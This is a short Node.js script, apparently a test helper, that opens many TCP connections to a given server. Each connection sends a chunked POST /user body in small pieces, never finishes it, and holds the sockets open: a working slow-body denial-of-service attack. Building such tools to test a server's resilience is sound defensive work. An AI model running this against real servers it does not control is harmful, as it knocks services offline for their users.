import net from 'node:net'

/**
 * An attacker in a process of its own: `node tiny-chunks.js URL CONNECTIONS CHUNK_BYTES BODY_BYTES`. Each connection sends
 * a body in chunks of that size and never ends it. Prints "open" when all connections are, and a JSON object once each
 * has sent everything or has been closed; then it keeps what is open until it is killed.
 */
const [url, ...numbers] = process.argv.slice(2)
const [connections, chunkBytes, bodyBytes] = numbers.map(Number)
const { hostname, port } = new URL(url)

const head = 'POST /user HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n'
const chunk = `${chunkBytes.toString(16)}\r\n${'x'.repeat(chunkBytes)}\r\n`
const bytes = Buffer.from(head + chunk.repeat(Math.floor(bodyBytes / chunkBytes)))

const sockets = await Promise.all(Array.from({ length: connections }, open))
process.stdout.write('open\n')
const endings = await Promise.all(sockets.map(attack))
const count = (/** @type {string} */ ending) => endings.filter((one) => one === ending).length
process.stdout.write(`${JSON.stringify({ sent: count('sent'), closed: count('closed') })}\n`)
setInterval(() => {}, 1000)

/** @returns {Promise<net.Socket>} */
function open() {
  return new Promise((resolve, reject) => {
    const socket = net.connect({ host: hostname, port: Number(port) }, () => resolve(socket))
    socket.once('error', reject)
  })
}

/** @param {net.Socket} socket @returns {Promise<'sent' | 'closed'>} */
function attack(socket) {
  return new Promise((resolve) => {
    socket.on('error', () => {})
    socket.on('close', () => resolve('closed'))
    socket.resume()
    socket.write(bytes, (error) => error || resolve('sent'))
  })
}
